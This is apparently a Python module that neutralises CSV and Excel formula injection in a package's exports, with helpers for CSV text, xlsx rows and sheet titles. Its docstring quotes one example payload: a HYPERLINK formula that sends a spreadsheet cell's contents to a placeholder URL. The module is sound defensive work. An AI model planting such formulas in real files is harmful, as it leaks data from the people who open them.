"""One neutraliser for every cell that leaves the system as CSV or Excel, and the writers that apply it.

Excel runs a CSV cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) as a
formula — OWASP's "CSV injection": a user name like ``=HYPERLINK("https://…?leak="&A2,"查看")``
would become a live link in an administrator's spreadsheet. In CSV such a text is prefixed with
``'`` (:func:`safe_cell`); a number, also when written as text (``-1.5``), is left alone.

An .xlsx says what each cell is, so there a text stays exactly as it was and is stored as a text
cell: openpyxl would store a str starting with ``=`` as a formula, :func:`append_row` makes it text
again (and drops the control characters XML cannot hold, which would make openpyxl refuse the whole
workbook). Our workbooks contain no formulas of our own; one would be set on its cell directly, never
through :func:`append_row`. Sheet titles pass :func:`sheet_title` (Excel refuses ``[]:*?/\\``, more
than 31 characters and a repeated name).

Every CSV and xlsx writer of the package goes through this module: :func:`csv_bytes` and
:func:`csv_text` for CSV (downloads, exports, templates, the commands' tables), :func:`append_row`
and :func:`sheet_title` for xlsx (the report's tables, the template).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A text that is a plain number (``-1.5``, ``+3``, ``-2.5e3``, ``-12%``): Excel reads it as the number.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
# The characters XML 1.0 cannot hold (openpyxl raises IllegalCharacterError on them).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
SHEET_TITLE_MAX = 31
# Excel keeps this sheet name for itself (change tracking) and refuses a workbook that uses it.
_SHEET_RESERVED = "history"


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell may hold it: text that could run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def _safe_column(column: pd.Series) -> pd.Series:
    if isinstance(column.dtype, pd.CategoricalDtype):
        column = column.astype(object)
    if column.dtype == object or pd.api.types.is_string_dtype(column):
        # Element by element: an object column may mix numbers (a negative number is no formula)
        # and text.
        return column.map(safe_cell, na_action="ignore")
    return column


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell and header through :func:`safe_cell` (a copy; numbers untouched)."""
    out = frame.copy()
    for k in range(out.shape[1]):  # by position: a table may repeat a column name
        out.isetitem(k, _safe_column(out.iloc[:, k]))
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame, line_end: str = "\n") -> str:
    """``frame`` as CSV text, neutralised, without the index (a command's standard output)."""
    return neutralise(frame).to_csv(index=False, lineterminator=line_end)


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as a CSV file: neutralised, UTF-8 with BOM and CRLF (Excel on Chinese Windows reads it)."""
    return csv_text(frame, "\r\n").encode("utf-8-sig")


def xlsx_value(value: Any) -> Any:
    """A value as an xlsx cell may hold it: text without the control characters XML cannot hold."""
    if isinstance(value, str):
        return _XML_ILLEGAL.sub("\ufffd", value)
    return value


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """Append ``values`` to an openpyxl worksheet as values: a text is a text cell, never a formula."""
    row = [xlsx_value(v) for v in values]
    sheet.append(row)
    at = sheet.max_row  # append writes below every existing row
    for column, value in enumerate(row, start=1):
        if isinstance(value, str) and value.startswith("="):
            cell = sheet.cell(row=at, column=column)
            if cell.data_type == "f":  # openpyxl took the text for a formula
                cell.data_type = "s"


def sheet_title(name: str, taken: Iterable[str] = ()) -> str:
    """``name`` as Excel accepts a sheet title: none of ``[]:*?/\\`` (each becomes ``_``), no ``'`` at
    either end, at most 31 characters, not empty, and unlike every title in ``taken`` (Excel compares
    them ignoring case; a repeat gets ``(2)``, ``(3)`` …)."""
    clean = _SHEET_FORBIDDEN.sub("_", _XML_ILLEGAL.sub("", name)).strip().strip("'").strip()
    clean = clean[:SHEET_TITLE_MAX].strip("'") or "Sheet"
    used = {t.casefold() for t in taken} | {_SHEET_RESERVED}
    title, k = clean, 2
    while title.casefold() in used:
        suffix = f"({k})"
        title = clean[: SHEET_TITLE_MAX - len(suffix)] + suffix
        k += 1
    return title
